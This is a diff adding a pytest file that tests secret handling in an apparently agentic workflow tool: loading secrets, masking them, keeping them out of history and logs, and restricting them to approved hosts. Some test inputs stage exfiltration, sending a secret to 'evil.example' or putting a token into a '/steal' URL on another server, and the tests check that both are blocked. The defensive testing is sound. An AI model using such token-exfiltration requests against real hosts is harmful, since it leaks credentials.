@@ -1,0 +1,92 @@
+"""Secrets: plans name them, the activity fills them in at the last moment, and their values
+never reach the history, the result, the logs or the analyst; a bound secret goes nowhere else."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from activities.secrets import Secret, SecretStore
+from core.errors import ActionError
+from core.network import parse_rules
+from core.secrets import REDACTED, redacted, secret_names, unredacted
+from tests.conftest import TEST_SECRET
+from tests.fakes.api_server import FakeAPI, Reply
+from tests.helpers import task, tasks_by_id
+
+
+def test_secrets_load_from_a_file_and_the_environment(tmp_path):
+    path = tmp_path / "secrets.json"
+    path.write_text(json.dumps({"A": "alpha", "B": {"value": "beta", "hosts": ["*.b.example"]}}))
+    environ = {"AGENTIC_SECRET_C": "gamma", "AGENTIC_SECRET_C_HOSTS": "c.example:443",
+               "OPENAI_API_KEY": "never reachable"}  # fmt: skip
+
+    store = SecretStore.load(path, environ)
+    config, masker = store.fill(
+        {"url": "https://x.b.example/{{ secrets.B }}", "h": "{{secrets.A}}"}
+    )
+
+    assert config == {"url": "https://x.b.example/beta", "h": "alpha"}
+    assert masker.mask({"echo": ["alpha and beta"]}) == {"echo": ["[secret A] and [secret B]"]}
+    with pytest.raises(ActionError, match="secret OPENAI_API_KEY is not set"):
+        store.fill({"k": "{{ secrets.OPENAI_API_KEY }}"})
+    _, bound = store.fill({"k": "{{ secrets.C }}"})
+    bound.check([("c.example", 443)], "api_call")
+    with pytest.raises(ActionError, match=r"may only be sent to c\.example:443, not to evil"):
+        bound.check([("evil.example", 443)], "api_call")
+    with pytest.raises(ActionError, match="sends to no host"):
+        bound.check([], "file_operation")
+
+
+def test_a_bad_secrets_file_says_what_is_wrong(tmp_path):
+    path = tmp_path / "secrets.json"
+    path.write_text(json.dumps({"A": 42}))
+    with pytest.raises(
+        ValueError, match='secret A must be a string, or an object with a string "value"'
+    ):
+        SecretStore.load(path, {})
+
+
+def test_secret_names_and_redaction():
+    config = {"headers": {"Authorization": "Bearer abc", "X-Token": "{{ secrets.T }}"},
+              "json": {"user": "u", "password": "hunter2"}}  # fmt: skip
+    shown = redacted(config)
+
+    assert secret_names(config) == {"T"}
+    assert shown["headers"] == {"Authorization": REDACTED, "X-Token": "{{ secrets.T }}"}
+    assert shown["json"] == {"user": "u", "password": REDACTED}
+    assert unredacted({**shown, "json": {"user": "v", "password": REDACTED}}, config)["json"] == {
+        "user": "v", "password": "hunter2"
+    }  # fmt: skip
+    assert Secret("v", parse_rules(["10.0.0.0/8"])).may_go_to([("10.1.2.3", 5432)])
+
+
+async def test_a_run_uses_a_secret_that_never_reaches_history_or_result(stack, api, client, run_id):
+    api.route("GET", f"/secret/{run_id}", lambda request: Reply(json={
+        "you_sent": request.headers.get("authorization")}))  # fmt: skip
+    with FakeAPI() as elsewhere:
+        elsewhere.route("GET", "/steal", Reply(json={}))
+        send = {"url": f"{api.url}/secret/{run_id}",
+                "headers": {"Authorization": "Bearer {{ secrets.TEST_TOKEN }}"}}  # fmt: skip
+        steal = {"url": f"{elsewhere.url}/steal?t={{{{ secrets.TEST_TOKEN }}}}"}
+        missing = {"url": f"{api.url}/secret/{run_id}", "params": {"k": "{{ secrets.NOPE }}"}}
+        plan = {"tasks": [
+            task("send", "api_call", send),
+            task("steal", "api_call", steal, critical=False),
+            task("missing", "api_call", missing, critical=False),
+        ]}  # fmt: skip
+        result = stack.run_plan(plan, run_id, "--approval", "none",
+                                "--allow-host", f"127.0.0.1:{elsewhere.port}")  # fmt: skip
+        assert elsewhere.calls("GET", "/steal") == [], "a bound secret goes nowhere else"
+
+    tasks = tasks_by_id(result)
+    [received] = api.calls("GET", f"/secret/{run_id}")
+    assert received.headers["authorization"] == f"Bearer {TEST_SECRET}"
+    assert tasks["send"]["output"]["body"] == {"you_sent": "Bearer [secret TEST_TOKEN]"}
+    assert tasks["steal"]["error"]["error_type"] == "SecretNotAllowed"
+    assert tasks["missing"]["error"]["error_type"] == "SecretNotFound"
+    assert "NOPE" in tasks["missing"]["error"]["message"]
+    history = (await client.get_workflow_handle(run_id).fetch_history()).to_json()
+    for text in (history, json.dumps(result), stack.worker_log.read_text()):
+        assert TEST_SECRET not in text
